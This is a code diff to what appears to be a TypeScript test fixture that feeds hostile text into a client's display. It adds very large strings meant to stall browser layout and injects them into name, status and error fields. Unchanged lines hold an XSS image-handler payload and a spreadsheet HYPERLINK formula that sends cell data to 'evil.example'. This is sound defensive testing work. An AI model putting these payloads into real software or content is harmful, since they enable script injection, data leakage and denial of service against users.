@@ -4,6 +4,8 @@ import { healthyRows } from '#dev/hostile-server/healthy-answers.ts';
 
 const family = 'Hostile text';
 
+const marks = '\u0301\u0352\u033f';
+
 /** Text that would like to be more than text. `shown`: what stands on screen, the hidden made visible. */
 const texts: { name: string; text: string; shown?: string }[] = [
   { name: 'an image with a handler', text: '<img src=x onerror="window.hacked=1">' },
@@ -19,8 +21,21 @@ const texts: { name: string; text: string; shown?: string }[] = [
   { name: 'new lines and tabs', text: 'one\r\ntwo\tthree', shown: 'one⟨U+000D⟩⟨U+000A⟩two⟨U+0009⟩three' },
   { name: 'NUL and escape', text: 'a\u0000b\u001b[31mc', shown: 'a⟨U+0000⟩b⟨U+001B⟩[31mc' },
   { name: 'a formula', text: '=HYPERLINK("http://evil.example/?x="&A1;"Click")' },
-  { name: 'stacked marks', text: `Z${'\u0301\u0352\u033f'.repeat(40)}` },
+  { name: 'stacked marks', text: `Z${marks.repeat(40)}`, shown: `Z${marks.repeat(3).slice(0, 8)}…` },
   { name: 'Arabic beside Latin', text: 'سكين AK-47' },
+];
+
+/** Text that takes a browser seconds or minutes to lay out whole, of about 200 KB each. */
+export const costlyTexts: { name: string; text: string }[] = [
+  { name: 'marks on one character', text: `Z${marks.repeat(33_000)}` },
+  { name: 'marks in changing order', text: `Z${'\u0301\u0316'.repeat(50_000)}` },
+  { name: 'a joined script without a break', text: 'سكين'.repeat(25_000) },
+  { name: 'both directions in turn', text: 'سa'.repeat(60_000) },
+  { name: 'a chain of joined emoji', text: `👩${'\u200d👩'.repeat(28_000)}` },
+  { name: 'Thai', text: 'กี่'.repeat(20_000) },
+  { name: 'a word without a break', text: 'W'.repeat(200_000) },
+  { name: 'line breaks', text: '\n'.repeat(50_000) },
+  { name: 'tabs', text: '\t'.repeat(50_000) },
 ];
 
 export const hostileText: Fault[] = [
@@ -35,12 +50,14 @@ export const hostileText: Fault[] = [
       },
     }),
   ),
-  {
-    family,
-    name: 'a name of 200,000 characters',
-    act: changes(renamed('W'.repeat(200_000))),
-    sees: { list: { kind: 'answer', rows: healthyRows }, item: { kind: 'answer' } },
-  },
+  ...costlyTexts.map(
+    ({ name, text }): Fault => ({
+      family,
+      name: `endless: ${name}`,
+      act: changes(overlong(text)),
+      sees: { list: { kind: 'answer', rows: healthyRows }, item: { kind: 'answer' } },
+    }),
+  ),
   {
     family,
     name: 'an empty name',
@@ -79,6 +96,19 @@ function renamed(name: string) {
       ? good.data.map((row, index) => (index === spoiltRow ? { ...row, name } : row))
       : { ...(good.data as object), name },
   });
+}
+
+/** In every place where a text of the service is shown, but for those by which an answer is known. */
+function overlong(text: string) {
+  return (good: { data: unknown }) => {
+    const named = renamed(text)(good);
+    return {
+      ...named,
+      data: Array.isArray(named.data)
+        ? named.data.map((row) => ({ ...row, market_hash_name: text }))
+        : { ...(named.data as object), market_hash_name: text, status: text, error_message: text },
+    };
+  };
 }
 
 function named(text: string, shown: string): Look {
